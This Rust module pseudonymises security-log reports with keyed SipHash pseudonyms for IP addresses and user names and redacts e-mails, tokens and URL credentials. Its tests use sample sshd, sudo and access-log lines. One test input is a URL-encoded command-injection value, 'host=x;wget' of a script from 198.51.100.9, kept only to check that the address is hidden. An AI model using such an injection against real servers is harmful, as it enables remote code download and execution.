//! Pseudonymised reports: findings that can travel without the addresses, user names and
//! secrets they came from.
//!
//! - Every IPv4 address becomes one in `10.0.0.0/8`, every IPv6 address one in
//!   `2001:db8::/32`, every other client (a host or user name) `host-` and six hex digits;
//!   the same input gets the same pseudonym throughout a report, and no two inputs share
//!   one.
//! - Pseudonyms come from SipHash-2-4 keyed with a 128-bit secret the caller draws (the
//!   page keeps it in the browser): without it, nobody can rebuild the mapping by hashing
//!   every address, as they could an unkeyed hash.
//! - Or, as GoAccess does, addresses are truncated instead: IPv4 to its /24, IPv6 to its
//!   /48 (no secret needed; the network stays visible).
//! - In free text (descriptions, request targets, log lines): addresses as above; user
//!   names where log lines name them (`for root from`, `user=`, `USER=`, `invalid user`,
//!   an access line's `%u`); e-mail addresses; the values of query parameters that hold
//!   secrets (`token`, `key`, `password`, `session`, `sig`…), credentials in URLs
//!   (`//user:pass@`) and bearer tokens or JWTs become `REDACTED`.

use crate::line_collector::NumberedLine;
use crate::report::{Report, RequestRow};
use regex::{Captures, Regex};
use siphasher::sip128::{Hasher128, SipHasher24};
use std::collections::{HashMap, HashSet};
use std::hash::Hasher;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
use std::sync::LazyLock;

/// How identifiers are hidden.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PseudonymMode {
    /// A consistent keyed pseudonym for each identifier.
    Keyed([u8; 16]),
    /// Addresses cut to their network (IPv4 /24, IPv6 /48); names still get keyed
    /// pseudonyms.
    Truncated([u8; 16]),
}

/// Replaces identifiers and secrets consistently across one report.
#[derive(Debug)]
pub struct Pseudonymizer {
    mode: PseudonymMode,
    assigned: HashMap<String, String>,
    taken: HashSet<String>,
    /// User names met so far: replaced wherever they stand as words (`/home/alice`).
    names: Vec<String>,
    /// `names` as one pattern, rebuilt when a name is added.
    names_pattern: Option<Regex>,
}

/// An IPv4 or IPv6 address in text (IPv6 loosely: hex groups with colons, at least two).
/// No word boundaries: in `%2F%2F198.51.100.9%2F` the address follows a letter, and
/// hiding a few digits too many is better than leaking one address.
static ADDRESS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?x)
        (?:25[0-5]|2[0-4]\d|1?\d?\d)(?:\.(?:25[0-5]|2[0-4]\d|1?\d?\d)){3}
        | (?:[0-9A-Fa-f]{1,4}:){2,7}[0-9A-Fa-f]{1,4}
        | (?:[0-9A-Fa-f]{1,4}:){1,7}:(?:[0-9A-Fa-f]{1,4}(?::[0-9A-Fa-f]{1,4}){0,6})?
        | ::(?:[0-9A-Fa-f]{1,4}:){0,6}[0-9A-Fa-f]{1,4}",
    )
    .unwrap_or_else(|e| panic!("the address pattern does not compile: {e}"))
});

/// Where log lines name a user: sshd, PAM, sudo, su; the name is group `name`.
static USER: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?x)
        (?:\bfor\ (?:invalid\ )?(?:user\ )?|\b[Ii]nvalid\ user\ |\buser\ |\b(?:r?user|logname|USER)=|\bby\ )
        (?P<name>[A-Za-z_][A-Za-z0-9._-]{0,31})",
    )
    .unwrap_or_else(|e| panic!("the user pattern does not compile: {e}"))
});

/// Words that follow the user markers without being user names.
const NOT_NAMES: [&str; 8] = [
    "invalid", "user", "uid", "from", "the", "unknown", "root(uid", "-",
];

/// Secrets: query values, URL credentials, bearer tokens and JWTs; e-mail addresses.
static SECRET: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?xi)
        (?P<param>[?&;](?:[a-z0-9_.-]*(?:token|key|pass(?:word|wd)?|pwd|secret|session|sessid|sid|auth|sig|signature|code|credential)[a-z0-9_.-]*)=)[^&\s\x22']+
        | (?P<scheme>[a-z][a-z0-9+.-]*://)[^/\s:@\x22']+:[^/\s@\x22']+@
        | (?P<bearer>bearer\s+)[A-Za-z0-9._~+/=-]{8,}
        | \beyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]*
        | (?P<email>\b[A-Za-z0-9._%+-]+@[A-Za-z0-9.-]+\.[A-Za-z]{2,}\b)",
    )
    .unwrap_or_else(|e| panic!("the secret pattern does not compile: {e}"))
});

/// sudo's `alice : TTY=pts/0 ; …`: the user before the first ` : `.
static SUDO_USER: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?P<head>:\s+)(?P<name>[A-Za-z_][A-Za-z0-9._-]{0,31})(?P<tail> : (?:TTY|PWD|USER|COMMAND)=)")
        .unwrap_or_else(|e| panic!("the sudo-user pattern does not compile: {e}"))
});

/// An access log line's authenticated user: the third field, before the `[time]`.
static ACCESS_USER: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"^(?P<head>\S+ \S+ )(?P<name>[^\s\[-][^\s\[]*)(?P<tail> \[)")
        .unwrap_or_else(|e| panic!("the access-user pattern does not compile: {e}"))
});

impl Pseudonymizer {
    /// A pseudonymizer with this mode (and secret).
    pub fn new(mode: PseudonymMode) -> Self {
        Self {
            mode,
            assigned: HashMap::new(),
            taken: HashSet::new(),
            names: Vec::new(),
            names_pattern: None,
        }
    }

    /// The pseudonym of a user name, which is then hidden wherever it appears.
    fn user(&mut self, name: &str) -> String {
        if !self.names.iter().any(|known| known == name) {
            self.names.push(name.to_owned());
            self.names_pattern = None;
        }
        self.identifier(name)
    }

    fn key(&self) -> [u8; 16] {
        match self.mode {
            PseudonymMode::Keyed(key) | PseudonymMode::Truncated(key) => key,
        }
    }

    /// A keyed 128-bit digest of `text`, with a counter to step past collisions.
    fn digest(&self, text: &str, attempt: u32) -> u128 {
        let mut hasher = SipHasher24::new_with_key(&self.key());
        hasher.write(text.as_bytes());
        hasher.write_u32(attempt);
        hasher.finish128().as_u128()
    }

    /// The pseudonym of one identifier: an address, a host or a user name.
    pub fn identifier(&mut self, original: &str) -> String {
        if original.is_empty() || original == "-" {
            return original.to_owned();
        }
        if let Some(done) = self.assigned.get(original) {
            return done.clone();
        }
        let address = original.parse::<IpAddr>().ok();
        if let (PseudonymMode::Truncated(_), Some(address)) = (self.mode, address) {
            let cut = truncated(address);
            self.assigned.insert(original.to_owned(), cut.clone());
            return cut;
        }
        let pseudonym = (0..)
            .map(|attempt| {
                let bits = self.digest(original, attempt);
                match address {
                    Some(IpAddr::V4(_)) => {
                        let [_, a, b, c] = ((bits as u32) & 0x00ff_ffff).to_be_bytes();
                        Ipv4Addr::new(10, a, b, c).to_string()
                    }
                    Some(IpAddr::V6(_)) => {
                        let low = bits & ((1u128 << 96) - 1);
                        Ipv6Addr::from((0x2001_0db8u128 << 96) | low).to_string()
                    }
                    None => format!("host-{:06x}", bits & 0xff_ffff),
                }
            })
            .find(|candidate| !self.taken.contains(candidate))
            .unwrap_or_default();
        self.taken.insert(pseudonym.clone());
        self.assigned.insert(original.to_owned(), pseudonym.clone());
        pseudonym
    }

    /// `text` with every address, named user, e-mail and secret replaced.
    pub fn text(&mut self, text: &str) -> String {
        let secrets_gone = SECRET.replace_all(text, |caps: &Captures<'_>| {
            if let Some(param) = caps.name("param") {
                format!("{}REDACTED", param.as_str())
            } else if let Some(scheme) = caps.name("scheme") {
                format!("{}REDACTED@", scheme.as_str())
            } else if let Some(bearer) = caps.name("bearer") {
                format!("{}REDACTED", bearer.as_str())
            } else if caps.name("email").is_some() {
                "REDACTED@example.invalid".to_owned()
            } else {
                "REDACTED".to_owned()
            }
        });
        let users_gone = USER.replace_all(&secrets_gone, |caps: &Captures<'_>| {
            let whole = &caps[0];
            let name = &caps["name"];
            if NOT_NAMES.contains(&name) {
                return whole.to_owned();
            }
            let marker = &whole[..whole.len() - name.len()];
            format!("{marker}{}", self.user(name))
        });
        let sudo_user_gone = SUDO_USER.replace(&users_gone, |caps: &Captures<'_>| {
            format!(
                "{}{}{}",
                &caps["head"],
                self.user(&caps["name"]),
                &caps["tail"]
            )
        });
        let access_user_gone = ACCESS_USER.replace(&sudo_user_gone, |caps: &Captures<'_>| {
            format!(
                "{}{}{}",
                &caps["head"],
                self.user(&caps["name"]),
                &caps["tail"]
            )
        });
        let names_gone = self.known_names_gone(&access_user_gone);
        ADDRESS
            .replace_all(&names_gone, |caps: &Captures<'_>| {
                let found = &caps[0];
                // The loose IPv6 pattern also matches times (10:00:05); only real addresses change.
                if found.parse::<IpAddr>().is_ok() {
                    self.identifier(found)
                } else {
                    found.to_owned()
                }
            })
            .into_owned()
    }

    /// `text` with every user name met so far replaced where it stands as a word.
    fn known_names_gone(&mut self, text: &str) -> String {
        if self.names.is_empty() {
            return text.to_owned();
        }
        if self.names_pattern.is_none() {
            let alternatives: Vec<String> = self.names.iter().map(|n| regex::escape(n)).collect();
            let pattern = format!(r"\b(?:{})\b", alternatives.join("|"));
            self.names_pattern = Regex::new(&pattern).ok();
        }
        let Some(pattern) = self.names_pattern.clone() else {
            return text.to_owned();
        };
        pattern
            .replace_all(text, |caps: &Captures<'_>| self.identifier(&caps[0]))
            .into_owned()
    }

    /// A copy of `report` with every client, description, shown line and sample
    /// pseudonymised; figures and line numbers unchanged.
    pub fn report(&mut self, report: &Report) -> Report {
        let mut out = report.clone();
        for finding in &mut out.findings {
            let original = std::mem::take(&mut finding.client);
            finding.client = self.identifier(&original);
            finding.description = self.text(&finding.description);
        }
        for row in &mut out.first_rows {
            self.row(row);
        }
        for sample in &mut out.rejects.samples {
            sample.text = self.text(&sample.text);
        }
        out.ground_truth = Default::default();
        out
    }

    /// Evidence lines read again from the input, hidden with the report's own mapping.
    pub fn lines(&mut self, lines: &mut [NumberedLine]) {
        for line in lines {
            line.text = self.text(&line.text);
        }
    }

    fn row(&mut self, row: &mut RequestRow) {
        row.client = self.identifier(&row.client);
        row.target = self.text(&row.target);
        row.method = self.text(&row.method);
        row.user_agent = row.user_agent.as_deref().map(|agent| self.text(agent));
    }
}

/// An address cut to its network: IPv4 /24, IPv6 /48.
fn truncated(address: IpAddr) -> String {
    match address {
        IpAddr::V4(v4) => {
            let [a, b, c, _] = v4.octets();
            Ipv4Addr::new(a, b, c, 0).to_string()
        }
        IpAddr::V6(v6) => {
            let bits = u128::from(v6) & !((1u128 << 80) - 1);
            Ipv6Addr::from(bits).to_string()
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const KEY: [u8; 16] = *b"0123456789abcdef";

    #[test]
    fn addresses_get_consistent_pseudonyms_in_the_documentation_ranges() {
        let mut p = Pseudonymizer::new(PseudonymMode::Keyed(KEY));
        let v4 = p.identifier("203.0.113.9");
        assert!(v4.starts_with("10."), "{v4}");
        assert_eq!(p.identifier("203.0.113.9"), v4);
        assert_ne!(p.identifier("203.0.113.10"), v4);
        let v6 = p.identifier("2001:4860::8888");
        assert!(v6.starts_with("2001:db8:"), "{v6}");
        let host = p.identifier("crawler.example.com");
        assert!(host.starts_with("host-"), "{host}");
        // Another key, other pseudonyms: they cannot be rebuilt without the key.
        let mut other = Pseudonymizer::new(PseudonymMode::Keyed(*b"fedcba9876543210"));
        assert_ne!(other.identifier("203.0.113.9"), v4);
    }

    #[test]
    fn no_two_addresses_share_a_pseudonym() {
        let mut p = Pseudonymizer::new(PseudonymMode::Keyed(KEY));
        let pseudonyms: HashSet<String> = (0..20_000u32)
            .map(|i| p.identifier(&Ipv4Addr::from(0xC000_0000 + i).to_string()))
            .collect();
        assert_eq!(pseudonyms.len(), 20_000);
    }

    #[test]
    fn truncation_keeps_the_network() {
        let mut p = Pseudonymizer::new(PseudonymMode::Truncated(KEY));
        assert_eq!(p.identifier("203.0.113.9"), "203.0.113.0");
        assert_eq!(p.identifier("2001:4860:1234:5678::1"), "2001:4860:1234::");
    }

    #[test]
    fn text_loses_addresses_users_emails_and_secrets_but_keeps_times() {
        let mut p = Pseudonymizer::new(PseudonymMode::Keyed(KEY));
        let line = "Mar 11 03:12:44 web1 sshd[4242]: Failed password for invalid user oracle from 203.0.113.9 port 52144 ssh2";
        let out = p.text(line);
        assert!(
            !out.contains("oracle") && !out.contains("203.0.113.9"),
            "{out}"
        );
        assert!(
            out.starts_with(
                "Mar 11 03:12:44 web1 sshd[4242]: Failed password for invalid user host-"
            ),
            "{out}"
        );
        let access = r#"198.51.100.4 - j.miller [11/Mar/2024:10:00:00 +0100] "GET /reset?email=j.miller@example.org&token=abc123&page=2 HTTP/1.1" 200 5 "https://bob:hunter2@intra.example/" "x""#;
        let out = p.text(access);
        for secret in ["198.51.100.4", "j.miller", "abc123", "hunter2", "bob:"] {
            assert!(!out.contains(secret), "{secret} in {out}");
        }
        assert!(
            out.contains("token=REDACTED") && out.contains("page=2"),
            "{out}"
        );
        let encoded = p.text("GET /ping?host=x%3Bwget%20http%3A%2F%2F198.51.100.9%2Fx.sh");
        assert!(!encoded.contains("198.51.100.9"), "{encoded}");
        let sudo = "Mar 11 10:00:00 web1 sudo[7]:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id";
        let out = p.text(sudo);
        assert!(
            !out.contains("alice") && !out.contains("USER=root"),
            "{out}"
        );
        let pam = "pam_unix(sshd:session): session opened for user deploy(uid=1000) by (uid=0)";
        assert!(!p.text(pam).contains("deploy"));
        // A name met once is hidden in later text too, but not inside other words.
        let later = p.text("backup of /home/deploy by cron; deployment done");
        assert!(
            !later.contains("/home/deploy ") && later.contains("deployment"),
            "{later}"
        );
        assert!(
            p.text("Authorization: Bearer abcdefghijklmnop")
                .ends_with("Bearer REDACTED")
        );
    }
}
